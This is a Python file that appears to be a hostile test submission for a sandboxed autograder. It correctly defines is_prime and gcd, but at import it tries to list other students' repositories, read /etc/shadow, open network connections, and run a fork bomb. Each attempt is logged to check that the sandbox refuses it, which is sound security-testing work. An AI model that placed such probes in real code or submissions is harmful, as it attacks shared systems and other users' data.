# A hostile submission: it answers correctly, but first tries to read the other students' work on
# the grading host and to reach the network (the git server, the internet), then forks without
# bound. What it got is printed as JSON lines that the report keeps.
import json
import os
import socket
import time

# The grading host's repositories, where the example's git server keeps them by default (the demo
# and the tests put the real path here before pushing).
REPOS = '/tmp/isola-autograder/repos'


def attempt(action):
    try:
        return 'got: ' + repr(action())[:120]
    except BaseException as error:  # noqa: B036
        return 'refused: %s: %s' % (type(error).__name__, str(error)[:120])


def fork_bomb(seconds=3.0):
    """Forks until refused (or for a few seconds); the children wait, then go."""
    children, deadline, stop = 0, time.time() + seconds, 'time'
    try:
        while time.time() < deadline and children < 20000:
            pid = os.fork()
            if pid == 0:
                time.sleep(seconds + 2)
                os._exit(0)
            children += 1
    except OSError as error:
        stop = 'refused: %s' % error.strerror
    return {'children': children, 'stopped': stop}


FINDINGS = {
    'read_other_students': attempt(lambda: os.listdir(REPOS)),
    'read_host_passwd': attempt(lambda: open('/etc/shadow').read()),
    'network_git_server': attempt(lambda: socket.create_connection(('127.0.0.1', 9418), timeout=2)),
    'network_internet': attempt(lambda: socket.create_connection(('1.1.1.1', 443), timeout=2)),
}
print('HOSTILE ' + json.dumps(FINDINGS), flush=True)
# Last, as it may end the sandbox (its memory or process limit) before anything else would run.
print('HOSTILE-FORK ' + json.dumps(fork_bomb()), flush=True)


def is_prime(n):
    return n > 1 and all(n % d for d in range(2, int(n ** 0.5) + 1))


def gcd(a, b):
    while b:
        a, b = b, a % b
    return a
